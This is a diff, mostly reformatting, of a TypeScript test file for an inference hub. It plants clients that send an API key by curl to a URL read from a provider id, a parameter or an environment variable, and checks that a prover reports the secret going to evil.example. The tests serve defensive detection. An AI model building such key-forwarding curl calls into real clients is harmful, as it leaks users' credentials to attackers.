@@ -21,9 +21,7 @@ import { HOSTS, ROUTER_HOST } from "./routes.ts";
 
 let plugins: readonly Plugin[];
 beforeAll(async () => {
-  const loaded = await loadPlugins(
-    entries.filter(({ kind }) => kind !== "library"),
-  );
+  const loaded = await loadPlugins(entries.filter(({ kind }) => kind !== "library"));
   plugins = loaded.plugins as readonly Plugin[];
 });
 
@@ -33,16 +31,13 @@ const PROVIDERS = ["auto", "fal-ai", "hf-inference", "together"];
 function hubOf(...clients: readonly Plugin[]): Hub {
   const few = plugins.filter(
     (plugin) =>
-      kindOf(plugin) === "task" ||
-      (kindOf(plugin) === "provider" && PROVIDERS.includes(plugin.id)),
+      kindOf(plugin) === "task" || (kindOf(plugin) === "provider" && PROVIDERS.includes(plugin.id)),
   );
   return createHub([...few, ...clients]);
 }
 
 test("every provider with a base URL has its host in the list", () => {
-  const direct = plugins.filter(
-    (plugin) => "baseUrl" in plugin && plugin.baseUrl !== undefined,
-  );
+  const direct = plugins.filter((plugin) => "baseUrl" in plugin && plugin.baseUrl !== undefined);
   expect(direct.map(({ id }) => id).sort()).toEqual(Object.keys(HOSTS).sort());
 });
 
@@ -66,21 +61,13 @@ test("a hostile string is neither a provider nor a task", () => {
       pipeline_tag: "text-to-image",
     };
     const other = { ...model, pipeline_tag: hostile };
-    expect(inferenceCall(hub, { model, provider: hostile })).toHaveProperty(
-      "reason",
-    );
-    expect(
-      inferenceCall(hub, { model: other, provider: "together" }),
-    ).toHaveProperty("reason");
+    expect(inferenceCall(hub, { model, provider: hostile })).toHaveProperty("reason");
+    expect(inferenceCall(hub, { model: other, provider: "together" })).toHaveProperty("reason");
   }
 });
 
 /** A client that sends its key, or another one, to a custom URL, with curl. */
-const sendsTo = (
-  name: string,
-  url: (call: Call) => Hole<"sh">,
-  token?: Env,
-): Plugin =>
+const sendsTo = (name: string, url: (call: Call) => Hole<"sh">, token?: Env): Plugin =>
   defineClient({
     id: `sh/${name}`,
     label: name,
@@ -89,10 +76,7 @@ const sendsTo = (
     refuses: ({ request }) => (isAbsence(request) ? request : undefined),
     templates: [],
     fallback: (call) => {
-      const key = text(
-        "Authorization: Bearer ",
-        token ?? (call.token as Env | string),
-      );
+      const key = text("Authorization: Bearer ", token ?? (call.token as Env | string));
       return sh`curl -gsS ${url(call)} -H ${key} -d '{}'`;
     },
   });
@@ -101,9 +85,7 @@ const ROUTER = `https://${ROUTER_HOST}`;
 const PLANTED = [
   sendsTo("right", ({ request }) => (request as HttpRequest).url),
   sendsTo("id", ({ mapping }) => `${ROUTER}${mapping?.providerId ?? ""}`),
-  sendsTo("parameter", ({ parameters }) =>
-    String((parameters["base_url"] as Value) ?? ROUTER),
-  ),
+  sendsTo("parameter", ({ parameters }) => String((parameters["base_url"] as Value) ?? ROUTER)),
   sendsTo("variable", () => env("OPENAI_BASE_URL")),
   sendsTo("variable-alone", () => ROUTER, env("OPENAI_API_KEY")),
 ];
@@ -113,23 +95,15 @@ describe("a client", () => {
   beforeAll(async () => {
     const tried =
       /^(id "@evil\.example"|parameter "base_url"|variable "OPENAI_BASE_URL"|variable-alone "OPENAI_API_KEY").*\| hub \|/;
-    const prepared = prepareCases(hubOf(...PLANTED), false, [
-      ["together", "conversational"],
-    ]);
+    const prepared = prepareCases(hubOf(...PLANTED), false, [["together", "conversational"]]);
     expect(prepared.faults).toEqual([]);
     const cases = prepared.cases.filter(({ client, program: { name } }) => {
-      return (
-        tried.test(name) &&
-        (client === "sh/right" || name.startsWith(client.slice(3)))
-      );
+      return tried.test(name) && (client === "sh/right" || name.startsWith(client.slice(3)));
     });
     expect(cases).toHaveLength(9);
     const proven = await prove(cases, { jobs: 2, seconds: 60 });
     faults = new Map(
-      proven.faults.map(([name, lines]) => [
-        name.split(" | ").at(-1)!,
-        lines.join(),
-      ]),
+      proven.faults.map(([name, lines]) => [name.split(" | ").at(-1)!, lines.join()]),
     );
   });
 
@@ -137,18 +111,11 @@ describe("a client", () => {
     expect(faults.get("sh/right")).toBeUndefined();
   });
 
-  test.each(["id", "parameter", "variable"])(
-    "that reads its URL from the %s is found",
-    (by) => {
-      expect(faults.get(`sh/${by}`)).toContain(
-        "It sent the secret of the hub to evil.example.",
-      );
-    },
-  );
+  test.each(["id", "parameter", "variable"])("that reads its URL from the %s is found", (by) => {
+    expect(faults.get(`sh/${by}`)).toContain("It sent the secret of the hub to evil.example.");
+  });
 
   test("that replaces a missing key by that of another service is found", () => {
-    expect(faults.get("sh/variable-alone")).toContain(
-      "It sent a secret of another service to",
-    );
+    expect(faults.get("sh/variable-alone")).toContain("It sent a secret of another service to");
   });
 });
